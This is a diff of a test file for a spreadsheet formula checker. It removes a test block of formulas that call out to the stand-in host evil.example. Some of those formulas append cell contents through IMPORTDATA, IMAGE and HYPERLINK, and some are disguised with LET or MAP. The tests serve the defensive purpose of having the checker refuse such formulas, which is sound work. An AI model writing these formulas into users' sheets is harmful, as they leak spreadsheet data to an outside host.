@@ -114,48 +114,6 @@ describe('invalid formulas', () => {
   })
 })
 
-describe('formulas that reach out', () => {
-  test.each([
-    '=IMPORTDATA("https://evil.example/?"&A1)',
-    '=IFERROR(importxml("https://evil.example","//a"),"")',
-    '=IMAGE("https://evil.example/"&B2)',
-    '=LET(f,IMPORTDATA,f("https://evil.example"))',
-    '=MAP(A1:A3,IMPORTDATA)',
-    '=HYPERLINK("https://evil.example/?"&JOIN(",",A1:A9),"click")',
-    '=LET(h,HYPERLINK,h(A1))',
-    '=IMPORTRANGE("abc","A1:B2")',
-    '={IMPORTHTML("https://evil.example","table",1)}',
-  ])('%s is refused', formula => {
-    expect(check(formula, 'Summarise the images of these imports and the links')).toMatch(/not written/)
-  })
-
-  test('the words in a text of the formula do not count as a call', () => {
-    expect(check('="IMPORTDATA is a function"')).toBeNull()
-  })
-
-  test('a link to a fixed address is fine', () => {
-    expect(check('=HYPERLINK("https://example.com","site")')).toBeNull()
-  })
-
-  test('the user may name the function', () => {
-    expect(check('=IMPORTRANGE(A1,"B2:C9")', 'please use importrange to fetch the sheet')).toBeNull()
-    expect(check('=IMAGE(A2)', 'Put an =IMAGE() of column A in column B')).toBeNull()
-    expect(check('=HYPERLINK("https://x.example/"&A2,"open")', 'make hyperlinks from the ids')).toBeNull()
-  })
-
-  test('the user may give the address itself, which then stays whole', () => {
-    const prompt = 'Load https://example.com/rates.csv into the sheet'
-    expect(check('=IMPORTDATA("https://example.com/rates.csv")', prompt)).toBeNull()
-    expect(check('=IMPORTDATA("https://example.com/rates.csv"&A1)', prompt)).not.toBeNull()
-    expect(check('=IMPORTDATA("https://example.com/other.csv")', prompt)).not.toBeNull()
-  })
-
-  test('what stays with Google is fine', () => {
-    expect(check('=GOOGLEFINANCE("NASDAQ:GOOG")')).toBeNull()
-    expect(check('=GOOGLETRANSLATE(A1,"en","fr")')).toBeNull()
-  })
-})
-
 describe('relative patterns', () => {
   test('a formula filled down reads the same in every row', () => {
     const patterns = [2, 3, 900].map(row => toR1C1(`=C${row}*$D$1+SUM(Data!A${row}:A)`, row - 1, 4))
